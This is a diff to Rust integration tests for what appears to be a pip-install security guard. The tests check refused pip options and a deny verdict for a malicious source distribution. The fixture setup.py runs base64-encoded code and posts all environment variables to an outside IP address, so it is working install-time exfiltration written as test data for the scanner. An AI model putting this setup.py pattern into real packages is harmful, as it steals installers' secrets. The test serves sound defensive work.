@@ -299,12 +299,75 @@ fn unknown_package_and_unsolvable_exit_2() {
 #[test]
 fn unsupported_pip_options_are_refused_clearly() {
     for args in [
-        &["install", "-e", "."][..],
+        &["install", "--src", "dir", "x"][..],
         &["install", "--no-build-isolation", "x"],
         &["install", "--trusted-host", "h", "x"],
+        &["install", "--config-settings", "a=b", "x"],
     ] {
         let out = Command::new(env!("CARGO_BIN_EXE_guard")).args(args).output().unwrap();
         assert_eq!(out.status.code(), Some(2), "{args:?}");
         assert!(stderr(&out).contains("unsupported pip option"), "{}", stderr(&out));
     }
+    // Editable installs are of local projects; an editable VCS checkout is refused with a reason.
+    let out = Command::new(env!("CARGO_BIN_EXE_guard"))
+        .args(["install", "-e", "git+https://git.example/r.git#egg=r"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(stderr(&out).contains("editable VCS checkouts"), "{}", stderr(&out));
+}
+
+#[test]
+fn a_denied_sdist_is_reported_even_when_its_build_dependencies_cannot_be_resolved() {
+    // Issue 12: the inspection's `deny` decides (exit 1), not the later failure
+    // to resolve the build backend of that same sdist (exit 2).
+    let index = Index::start();
+    index.add(
+        "evil",
+        sdist(
+            "evil",
+            "1.0",
+            &[
+                (
+                    "setup.py",
+                    "import os, base64, urllib.request\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\nurllib.request.urlopen('http://198.51.100.7/c', data=repr(dict(os.environ)).encode())\nfrom setuptools import setup\nsetup(name='evil', version='1.0')\n".into(),
+                ),
+                (
+                    "pyproject.toml",
+                    "[build-system]\nrequires = [\"no-such-backend\"]\nbuild-backend = \"x\"\n".into(),
+                ),
+                ("PKG-INFO", "Metadata-Version: 2.2\nName: evil\nVersion: 1.0\n".into()),
+            ],
+        ),
+        Fault::None,
+    );
+    let cache = tempfile::tempdir().unwrap();
+    let out = guard(&index, cache.path(), &["evil"]);
+    assert_eq!(out.status.code(), Some(1), "stderr: {}", stderr(&out));
+    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(plan["packages"][0]["verdict"], "deny", "{plan}");
+    assert!(stderr(&out).contains("no-such-backend"), "{}", stderr(&out));
+
+    // Without a deny, the same failure is an error.
+    index.add(
+        "plain",
+        sdist(
+            "plain",
+            "1.0",
+            &[
+                (
+                    "pyproject.toml",
+                    "[build-system]\nrequires = [\"no-such-backend\"]\nbuild-backend = \"x\"\n".into(),
+                ),
+                (
+                    "PKG-INFO",
+                    "Metadata-Version: 2.2\nName: plain\nVersion: 1.0\nSummary: s\nAuthor: a\n".into(),
+                ),
+                ("plain/__init__.py", "VALUE = 1\n".into()),
+            ],
+        ),
+        Fault::None,
+    );
+    let out = guard(&index, cache.path(), &["plain"]);
+    assert_eq!(out.status.code(), Some(2), "stderr: {}", stderr(&out));
 }
